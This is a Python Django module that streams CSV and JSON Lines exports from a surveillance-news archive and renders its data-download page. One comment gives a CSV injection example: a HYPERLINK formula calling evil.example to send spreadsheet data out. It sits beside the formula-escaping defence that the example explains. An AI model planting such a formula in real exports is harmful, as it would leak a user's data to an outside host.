"""Take the data away: search results, entities, an entity's articles, the sourced
relationships and the whole archive, as files a spreadsheet or a script reads; and the page
that lists them (/data/).

    /search/export.csv, .jsonl       every match of a search, in its order, with its filters
    /<kind>/<slug>/articles.csv, .jsonl   every article that names an entity, newest first
    /exports/entities.csv            every entity: kind, names, parent, status, description
    /exports/relationships.csv       every sourced relationship, as an edge list
    /exports/articles.jsonl          every article with its body and the entities it names
    /data/                           the list of them, each with its columns

Every download is streamed (StreamingHttpResponse): rows are read BATCH at a time, by id,
with a fixed number of queries a batch, so memory and the time to the first byte stay flat
whatever the archive's size. A CSV starts with a byte order mark (Excel otherwise reads
UTF-8 as its local code page: "ICEâ€™s") and every cell goes through csv_cell, so no cell
is a formula. JSON Lines carry the same fields with lists for lists and null for what is
unknown; their bytes never hold a raw <, > or & (api._Encoder).

The column lists below (name, meaning) are both what the code writes and what /data/ shows:
the page cannot drift from the files.
"""

import csv
import io
import re
from collections.abc import Callable, Iterable, Iterator
from typing import NamedTuple

from django.conf import settings
from django.db.models import F
from django.db.models.functions import Substr
from django.http import Http404, HttpResponse, HttpResponseBadRequest, StreamingHttpResponse
from django.shortcuts import redirect, render
from django.urls import reverse
from django.views.decorators.http import require_safe

from .. import selectors
from ..filters import SearchFilterSet
from ..models import Agency, Article, Entity, EntityKind, Mention, Program, Relationship
from ..names.text import WITHOUT_MARKS
from ..search import Results, SearchTimeout, service
from ..search.entities import reading_version
from ..search.highlight import ENTITY_CHARS
from .api import _Encoder, article_data, entities_by_kind
from .caching import archive_version, public_page
from .common import TIMEOUT_MESSAGE, BadRequest, page_number, search_filterset

BATCH = 500  # rows read per query while streaming
BOM = "\ufeff"  # written once, first: spreadsheets then read the file as UTF-8
CSV_TYPE = "text/csv; charset=utf-8"
JSONL_TYPE = "application/x-ndjson; charset=utf-8"
FORMATS = ("csv", "jsonl")
# Characters of each body read for its snippet (a match further on is not shown: the row
# gets the opening). The page marks 10,000 (highlight.EXCERPT_CHARS), about 1 ms a row in
# the marker: 10 s for a 10,000-row export; 2,000 cost a fifth of that.
SNIPPET_CHARS = 2_000
# Words of an article's opening used as its snippet when no match is marked.
OPENING_WORDS = 30
# Characters shown before and after the first place an article names an entity.
AROUND = (120, 180)

# -- the columns: what each file holds, and what /data/ says of it ---------------------------
KIND_COLUMNS = tuple(
    (k.plural, f"The {k.plural} it names (acronym or name), most-mentioned first, “; ” between")
    for k in EntityKind
)
ARTICLE_COLUMNS = (
    ("title", "The article's title."),
    ("published", "Publication date, YYYY-MM-DD; blank when unknown (never guessed)."),
    ("publication", "Where it was published (e.g. Techdirt)."),
    ("source_url", "The original article's address; blank when unknown."),
    ("archive_url", "Its page in this archive."),
)
SEARCH_COLUMNS = (
    *ARTICLE_COLUMNS,
    ("snippet", "Plain text: the passage that matched the query, or the article's opening."),
    *KIND_COLUMNS,
)
ENTITY_ARTICLE_COLUMNS = (
    *ARTICLE_COLUMNS,
    ("mentions", "How many times the article names the entity."),
    ("snippet", "Plain text: where the article first names the entity, or its opening."),
    *KIND_COLUMNS,
)
ENTITY_COLUMNS = (
    ("kind", "agency, contractor, program or organization."),
    ("name", "Its full name."),
    ("acronym", "Its acronym or short name, if any."),
    ("aliases", "Other names the articles use for it, “; ” between."),
    ("parent", "For an agency: the agency it is part of."),
    ("status", "For a program: proposed, active, suspended or ended (its latest sourced claim)."),
    ("articles", "How many articles name it."),
    ("description", "A short, sourced description."),
    ("url", "Its page in this archive."),
)
RELATIONSHIP_COLUMNS = (
    ("subject", "Who does it (an edge's source)."),
    ("subject_kind", "The subject's kind."),
    ("subject_url", "The subject's page."),
    ("relationship", "What it does, in words (“sells to”, “operates”, …)."),
    ("relationship_type", "The same as a code (sells_to, operates, …)."),
    ("object", "To or with whom (an edge's target)."),
    ("object_kind", "The object's kind."),
    ("object_url", "The object's page."),
    ("amount", "A sum of money, as the article states it; blank when none."),
    ("period", "When, as the article states it (a year, a range); blank when not stated."),
    ("quote", "The sentence of the article that says so."),
    ("second_quote", "Another sentence of it, where the amount or the period is stated."),
    (
        "collective",
        "yes when the sentence speaks of several parties together, without saying which "
        "did this with which.",
    ),
    (
        "context",
        "Where the article names a party the quote only refers to (“paragraph”, “previous "
        "paragraph”); blank when the quote names both.",
    ),
    ("article", "The article's title."),
    ("published", "The article's date, YYYY-MM-DD; blank when unknown."),
    ("source_url", "The original article's address; blank when unknown."),
    ("article_url", "The article's page in this archive."),
)
# /exports/articles.jsonl: the API's representation of an article (api.article_data).
ARCHIVE_FIELDS = (
    ("title", "The article's title."),
    ("slug", "Its address in this archive (/articles/<slug>/)."),
    ("url", "Its page in this archive."),
    ("published", "YYYY-MM-DD, or null when unknown."),
    ("publication", "Where it was published."),
    ("source_url", "The original article's address, or null."),
    ("dept", "Techdirt's dept line, or null."),
    ("facts_note", "Caveats about the facts above, or null."),
    *(
        (k.plural, f"The {k.plural} it names: name, acronym, slug, kind, url, mention_count.")
        for k in EntityKind
    ),
    ("body", "The text, one paragraph a line."),
)


# A spreadsheet reads a cell starting with one of these as a formula (or as the start of one):
# `=HYPERLINK("http://evil.example/?"&A1)` in an article title would send a researcher's data
# away when they open the export. OWASP's advice ("CSV Injection"): prefix a single quote.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    """`value` as a CSV cell no spreadsheet evaluates: every export writes its cells through
    this (text starting with = + - @ tab or CR gets a leading ')."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_row(values) -> list[str]:
    return [csv_cell(v) for v in values]


def header(columns) -> list[str]:
    return [name for name, _ in columns]


# -- streaming -------------------------------------------------------------------------------
def _csv_chunks(columns, batches: Iterable[list[list]]) -> Iterator[str]:
    """The BOM and the header row, then one chunk per batch of rows (not one per row: a
    server writes each chunk to the socket on its own)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(csv_row(header(columns)))
    yield BOM + _drain(out)
    for rows in batches:
        writer.writerows(csv_row(r) for r in rows)
        yield _drain(out)


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


def _jsonl_chunks(batches: Iterable[list[dict]]) -> Iterator[str]:
    encoder = _Encoder(ensure_ascii=False)
    for records in batches:
        yield "".join(encoder.encode(r) + "\n" for r in records)


def _download(request, filename: str, content_type: str, chunks: Callable[[], Iterator[str]]):
    """A streamed attachment; HEAD gets the headers alone and reads nothing."""
    if request.method == "HEAD":
        response = HttpResponse(content_type=content_type)
    else:
        response = StreamingHttpResponse(chunks(), content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _table(request, fmt: str, name: str, columns, batches: Callable[[], Iterator[list[dict]]]):
    """CSV (the columns, lists joined by "; ") or JSON Lines (the same keys) of `batches`."""
    names = header(columns)
    if fmt == "csv":

        def rows():
            for records in batches():
                yield [[_cell(r[n]) for n in names] for r in records]

        return _download(request, f"{name}.csv", CSV_TYPE, lambda: _csv_chunks(columns, rows()))

    def records():
        for batch in batches():
            yield [{n: r[n] for n in names} for r in batch]

    return _download(request, f"{name}.jsonl", JSONL_TYPE, lambda: _jsonl_chunks(records()))


def _cell(value) -> str:
    if isinstance(value, list | tuple):
        return "; ".join(value)
    if isinstance(value, bool):
        return "yes" if value else "no"
    return "" if value is None else value


# -- articles by id, a batch at a time --------------------------------------------------------
class Named(NamedTuple):
    """An entity an exported article names, and how often."""

    entity_id: int
    kind: str
    short_name: str
    count: int


SLUG_SLOT = "slug-slot"


def _article_batches(
    request, ids: list[int], snippets: Callable[[dict, dict], dict[int, str]], extra=None
) -> Iterator[list[dict]]:
    """The articles `ids` names, in that order, BATCH at a time: per batch one query for
    their fields (with a bounded excerpt of the body and of the entity names, never the
    whole body) and one for the entities they name. `snippets(rows, mentions)` gives each
    one's snippet; `extra(row, mentions)` any further fields. An article deleted since the
    ids were read is left out."""
    catalogue = {
        e.pk: (e.pk, e.kind, e.short_name)
        for e in Entity.objects.only("id", "kind", "name", "acronym")
    }
    # Every article's address from one reversed URL (a slug is URL-safe as it stands):
    # reverse() and build_absolute_uri() per row were 2 of a 47,000-row export's seconds.
    article_url = request.build_absolute_uri(reverse("article", args=[SLUG_SLOT]))
    for start in range(0, len(ids), BATCH):
        chunk = ids[start : start + BATCH]
        rows = {
            r["id"]: r
            for r in Article.objects.filter(pk__in=chunk).values(
                "id",
                "slug",
                "title",
                "published",
                "publication",
                "source_url",
                excerpt=Substr("body", 1, SNIPPET_CHARS),
                names=Substr("entity_text", 1, ENTITY_CHARS),
            )
        }
        # (entity id, mentions) per article, most-mentioned first: plain values, read
        # against the catalogue loaded once (model instances and the spans' JSON cost
        # more than the rows themselves: 5 s of a 47,000-row export).
        mentions: dict[int, list[Named]] = {}
        for article_id, entity_id, count in (
            Mention.objects.visible()
            .filter(article_id__in=chunk)
            .order_by("-count", "entity__name")
            .values_list("article_id", "entity_id", "count")
        ):
            entity = catalogue.get(entity_id)
            if entity is not None:
                mentions.setdefault(article_id, []).append(Named(*entity, count))
        text = snippets(rows, mentions)
        records = []
        for i in chunk:
            row = rows.get(i)
            if row is None:
                continue
            named = mentions.get(i, [])
            record = {
                "title": row["title"],
                "published": row["published"].isoformat() if row["published"] else None,
                "publication": row["publication"],
                "source_url": row["source_url"] or None,
                "archive_url": article_url.replace(SLUG_SLOT, row["slug"]),
                "snippet": text.get(i) or opening(row["excerpt"]),
                **(extra(row, named) if extra else {}),
            }
            for kind in EntityKind:
                record[kind.plural] = [m.short_name for m in named if m.kind == kind]
            records.append(record)
        yield records


def opening(body: str, n: int = OPENING_WORDS) -> str:
    """The first `n` words of the first paragraph: the snippet of an article with no match
    to show."""
    words = body.split("\n", 1)[0].split(maxsplit=n)
    return " ".join(words[:n]) + ("…" if len(words) > n else "")


def plain(marked: str) -> str:
    """A snippet as text: the engine's private match markers removed, on one line."""
    return " ".join(marked.translate(WITHOUT_MARKS).split())


# -- search results -------------------------------------------------------------------------
def _search_filterset(params) -> SearchFilterSet:
    """The search's parameters, validated as the search page validates them. Raises
    BadRequest."""
    filterset = search_filterset(params)
    # An export is one page, the whole result set: a later page does not exist.
    if page_number(params.get("page")) != 1:
        raise Http404("An export has one page: every match.")
    return filterset


def search_ids(text: str, filters, sort: str, version) -> tuple[list[int], "SearchPlan"]:
    """Every match's id, in the order the search pages through them, from the search's
    own steps (archive.search.service), with no hit built: one statement for the ids
    instead of a page of articles with their highlights and entities.

    By relevance, when more than SEARCH_WINDOW match, the engine ranks the window (and the
    older title matches) only: those come first, best first, then every other match,
    newest first, so the export still holds every match."""
    engine = service.get_engine()
    with engine.session(), reading_version(version):
        query = service.parse_query(text)
        results = Results(
            query,
            total=service.count(engine, query, filters),
            page=1,
            page_size=1,
            sort=service.normal_sort(query, sort),
            window=settings.SEARCH_WINDOW,
        )
        window_ids = service.newest_window(engine, results, filters, needed=False)
        results.title_ids = service.title_matches(engine, results, filters, window_ids)
        results.entities = service.named_entities(text, query)
        results.page_size = max(1, results.rankable)
        ids = service.page_ids(engine, results, filters, window_ids) if results.total else []
        if len(ids) < results.total:
            seen = set(ids)
            rest = engine.page_ids(query, filters, "newest", results.total, 0, results.total)
            ids += [i for i in rest if i not in seen]
        plan = SearchPlan(engine, service.mark_query(query, results.entities), results.total)
    return ids, plan


class SearchPlan:
    """What the rows of an export need from its search: the engine and what to mark."""

    def __init__(self, engine, marks, total: int):
        self.engine, self.marks, self.total = engine, marks, total
        self.finder = _words_finder(marks)

    def snippets(self, rows: dict, mentions: dict) -> dict[int, str]:
        """The matched passage of each row, as text: the stretch around the first place in
        its bounded excerpt where a word of the query starts (its stem, as typed). The
        page's marker (an in-memory FTS table per batch) cost 8 of the 28 s of a
        47,000-row export; a download wants the passage, not the marks."""
        if self.finder is None or not rows:
            return {}
        out = {}
        for i, r in rows.items():
            excerpt = r["excerpt"] or ""
            m = self.finder.search(fold_accents(excerpt))  # same length, accents off
            if m:
                out[i] = around(excerpt, m.start(), m.end())
        return out


def _words_finder(query) -> "re.Pattern | None":
    """Where any positive word of `query` starts, case and accents aside (the query's
    words are folded; the excerpt is read folded too, _FOLD): a word's first letters up to
    its stem (the search stems "surveillance" and "surveil" alike), a short word whole
    ("ice" is not "Iceland"), a phrase's first word, a prefix as typed."""
    stems = []
    for term in query.positive_terms():
        for word in term.words[:1]:
            if term.prefix and len(term.words) == 1:
                stems.append(re.escape(word))  # "surveil*": any word it starts
            elif len(word) <= 4:
                stems.append(re.escape(word) + r"(?!\w)")
            else:
                stems.append(re.escape(word[: max(4, len(word) - 3)]))
    if not stems:
        return None
    return re.compile(
        r"(?<!\w)(?:" + "|".join(sorted(set(stems), key=len, reverse=True)) + ")", re.I
    )


def _fold_table() -> dict[int, str]:
    """Accented Latin letters to their base letter, one character for one, so a match in
    the folded text is at the same place in the original."""
    import unicodedata

    table = {}
    for code in range(0xC0, 0x250):
        base = unicodedata.normalize("NFKD", chr(code))[:1]
        if base.isascii() and base.isalpha() and base != chr(code):
            table[code] = base
    return table


_FOLD = _fold_table()
_ACCENTED = re.compile("[\u00c0-\u024f]")


def fold_accents(text: str) -> str:
    """`text` with accented Latin letters as their base letter, the same length. Only the
    accented letters are replaced (a regex scan in C): str.translate with this table looked
    up every character in Python and took 14 of the 27 s of a 47,000-row export."""
    if text.isascii():
        return text
    return _ACCENTED.sub(lambda m: _FOLD.get(ord(m.group()), m.group()), text)


def _search_export(request, fmt: str):
    try:
        filterset = _search_filterset(request.GET)
        args = filterset.search_args()
        ids, plan = search_ids(
            args["text"], args["filters"], args["sort"], archive_version(request)
        )
    except BadRequest as exc:
        return HttpResponseBadRequest(str(exc), content_type="text/plain; charset=utf-8")
    except SearchTimeout:
        response = HttpResponse(TIMEOUT_MESSAGE, status=503, content_type="text/plain")
        response["Retry-After"] = "5"
        return response
    response = _table(
        request,
        fmt,
        "archive-search",
        SEARCH_COLUMNS,
        lambda: _article_batches(request, ids, plan.snippets),
    )
    response["X-Total-Matches"] = str(plan.total)
    return response


@require_safe
@public_page
def search_csv(request):
    """Every match of a search (the search page's parameters) as CSV, in its order."""
    return _search_export(request, "csv")


@require_safe
@public_page
def search_jsonl(request):
    return _search_export(request, "jsonl")


# -- an entity's articles -------------------------------------------------------------------
@require_safe
@public_page
def entity_articles(request, kind_plural, slug, fmt):
    """Every article that names the entity (a visible mention), newest first."""
    found, moved_to = selectors.find_entity(kind_plural, slug)
    if moved_to is not None:
        return redirect("entity-articles", moved_to.kind_plural, moved_to.slug, fmt, permanent=True)
    if found is None or fmt not in FORMATS:
        raise Http404("No entity with that address.")
    # One query for the ids, in the entity page's order; the rows follow a batch at a time.
    ids = list(
        Mention.objects.visible()
        .filter(entity=found)
        .order_by(F("article__published").desc(nulls_last=True), "-article_id")
        .values_list("article_id", flat=True)
    )

    def passages(rows, mentions) -> dict[int, str]:
        """Where each article first names the entity (its mention's first span), when that
        lies within the excerpt read: one query a batch, for this entity's spans only."""
        out = {}
        spans = Mention.objects.filter(entity=found, article_id__in=list(rows)).values_list(
            "article_id", "spans"
        )
        for i, found_spans in spans:
            excerpt = rows[i]["excerpt"] or ""
            if found_spans and found_spans[0][1] <= len(excerpt):
                out[i] = around(excerpt, *found_spans[0])
        return out

    def extra(row, named):
        m = next((m for m in named if m.entity_id == found.pk), None)
        return {"mentions": m.count if m else 0}

    return _table(
        request,
        fmt,
        f"archive-{found.slug}-articles",
        ENTITY_ARTICLE_COLUMNS,
        lambda: _article_batches(request, ids, passages, extra),
    )


def around(text: str, start: int, end: int) -> str:
    """The stretch of `text` around [start, end), within its paragraph, cut at words."""
    before, after = AROUND
    lo = max(text.rfind("\n", 0, start) + 1, start - before)
    hi = text.find("\n", end)
    hi = min(len(text) if hi < 0 else hi, end + after)
    piece = text[lo:hi]
    if lo > 0 and text[lo - 1] != "\n":
        piece = "…" + piece.split(" ", 1)[-1]
    if hi < len(text) and text[hi] != "\n":
        piece = piece.rsplit(" ", 1)[0] + "…"
    return " ".join(piece.split())


# -- the catalogue --------------------------------------------------------------------------
@require_safe
@public_page
def entities_csv(request):
    def rows():
        by_kind = selectors.entities_by_kind(archive_version(request))
        names = {e.pk: e.name for entities in by_kind.values() for e in entities}
        parent_of = dict(Agency.objects.values_list("pk", "parent_id"))
        # As the page says it: derived from the sourced history, else the stored one.
        status_of = dict(Program.objects.values_list("pk", "status")) | selectors.program_statuses()
        for kind in EntityKind:
            yield [
                [
                    kind.value,
                    e.name,
                    e.acronym,
                    "; ".join(a.name for a in e.aliases.all()),
                    names.get(parent_of.get(e.pk), ""),
                    status_of.get(e.pk, ""),
                    e.article_count,
                    e.description,
                    request.build_absolute_uri(e.get_absolute_url()),
                ]
                for e in by_kind[kind.value]
            ]

    return _download(
        request, "archive-entities.csv", CSV_TYPE, lambda: _csv_chunks(ENTITY_COLUMNS, rows())
    )


def _relationship_batches(request) -> Iterator[list[list]]:
    """Every relationship, BATCH at a time by id: one query a batch (its ends and article
    joined)."""
    last = 0
    rows = (
        Relationship.objects.select_related("subject", "object", "article")
        .defer("article__body", "article__entity_text")  # its title and addresses only
        .order_by("pk")
    )
    while batch := list(rows.filter(pk__gt=last)[:BATCH]):
        out = []
        for r in batch:
            a = r.article
            out.append(
                [
                    r.subject.name,
                    r.subject.kind,
                    request.build_absolute_uri(r.subject.get_absolute_url()),
                    r.get_kind_display(),
                    r.kind,
                    r.object.name,
                    r.object.kind,
                    request.build_absolute_uri(r.object.get_absolute_url()),
                    r.amount,
                    r.period,
                    r.quote,
                    r.second_quote,
                    _cell(r.collective),
                    r.context,
                    a.title,
                    a.published or "",
                    a.source_url,
                    request.build_absolute_uri(a.get_absolute_url()),
                ]
            )
        yield out
        last = batch[-1].pk


@require_safe
@public_page
def relationships_csv(request):
    return _download(
        request,
        "archive-relationships.csv",
        CSV_TYPE,
        lambda: _csv_chunks(RELATIONSHIP_COLUMNS, _relationship_batches(request)),
    )


# -- every article --------------------------------------------------------------------------
def _article_lines(request):
    """Every article as a JSON line, BATCH at a time (keyset on id: each batch one query for
    the articles and one for their entities, whatever the archive's size)."""
    last = 0
    encoder = _Encoder(ensure_ascii=False)
    while True:
        batch = list(Article.objects.filter(pk__gt=last).order_by("pk")[:BATCH])
        if not batch:
            return
        mentions: dict[int, list[Mention]] = {}
        for m in (
            Mention.objects.visible()
            .filter(article__in=batch)
            .select_related("entity")
            .order_by("-count", "entity__name")
        ):
            mentions.setdefault(m.article_id, []).append(m)
        yield "".join(
            encoder.encode(
                article_data(
                    request, a, **entities_by_kind(request, mentions.get(a.pk, [])), body=a.body
                )
            )
            + "\n"
            for a in batch
        )
        last = batch[-1].pk


@require_safe
@public_page
def articles_jsonl(request):
    return _download(request, "archive-articles.jsonl", JSONL_TYPE, lambda: _article_lines(request))


# -- the data page --------------------------------------------------------------------------
def _example_entity(version) -> Entity | None:
    """The most-named entity: the page's example of an entity's articles."""
    named = [e for entities in selectors.entities_by_kind(version).values() for e in entities]
    return min(named, key=lambda e: (-e.article_count, e.name.casefold()), default=None)


@require_safe
@public_page
def data(request):
    """Every download and the JSON API, each with what its columns hold."""
    example = _example_entity(archive_version(request))
    entity_links = []
    if example is not None:
        entity_links = [
            (
                f"{example.short_name}'s articles ({fmt.upper()})",
                reverse("entity-articles", args=[example.kind_plural, example.slug, fmt]),
            )
            for fmt in ("csv", "jsonl")
        ]
    downloads = [
        {
            "id": "search",
            "title": "Search results",
            "about": "Every article a search finds, in its order and with its filters, "
            "from any search page (“Download all: CSV · JSON Lines”). Without a query: "
            "every article, newest first.",
            "links": [
                ("Every article (CSV)", reverse("search-export") + "?sort=newest"),
                ("Every article (JSON Lines)", reverse("search-export-jsonl") + "?sort=newest"),
                ("Search, then download", reverse("search")),
            ],
            "pattern": "/search/export.csv?q=… (or .jsonl), with the search page's parameters",
            "columns": SEARCH_COLUMNS,
        },
        {
            "id": "entity-articles",
            "title": "An entity's articles",
            "about": "Every article that names an agency, contractor, program or "
            "organization, newest first.",
            "links": entity_links,
            "pattern": "/agencies/<slug>/articles.csv (or .jsonl); likewise /contractors/, "
            "/programs/, /organizations/",
            "columns": ENTITY_ARTICLE_COLUMNS,
        },
        {
            "id": "entities",
            "title": "Entities",
            "about": "Every agency, contractor, program and organization, most-named first.",
            "links": [("Entities (CSV)", reverse("export-entities"))],
            "columns": ENTITY_COLUMNS,
        },
        {
            "id": "relationships",
            "title": "Relationships",
            "about": "Every sourced relationship as an edge list (subject → object), each "
            "with the sentence that states it and its article.",
            "links": [("Relationships (CSV)", reverse("export-relationships"))],
            "columns": RELATIONSHIP_COLUMNS,
        },
        {
            "id": "articles",
            "title": "The whole archive",
            "about": "Every article with its text and the entities it names, one JSON "
            "object a line.",
            "links": [("Every article (JSON Lines)", reverse("export-articles"))],
            "columns": ARCHIVE_FIELDS,
        },
    ]
    api = [
        (reverse("api-articles"), "articles, newest first, 50 a page"),
        (reverse("api-search") + "?q=ICE", "a search, with the search page's parameters"),
        (reverse("api-entities"), "entities, most-named first (?kind=agency…)"),
    ]
    if example is not None:
        api.append(
            (
                reverse("api-entity", args=[example.kind, example.slug]),
                "one entity, its relationships and a page of its articles",
            )
        )
    return render(request, "archive/data.html", {"downloads": downloads, "api": api})
